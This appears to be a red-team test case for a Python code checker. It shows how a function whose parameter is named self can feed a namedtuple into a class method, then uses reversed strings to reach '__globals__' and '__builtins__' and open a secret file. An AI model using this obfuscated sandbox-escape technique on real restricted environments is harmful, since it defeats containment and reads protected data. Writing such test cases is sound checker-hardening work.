# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: objects.own_object accepts `Reader.fetch(self, ...)` anywhere as long as the first argument is a name
# spelled `self` (or `cls`); it never checks that this `self` is a method's own object. A module-level function
# with a parameter named self passes a namedtuple on: Reader.fetch runs with it as self, and its
# class-constant self.FIELDS is a run-time ["__globals__"].
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


Box = namedtuple("Box", "FIELDS")


def go(self, fn):
    return Reader.fetch(self, fn)


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    got = go(box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
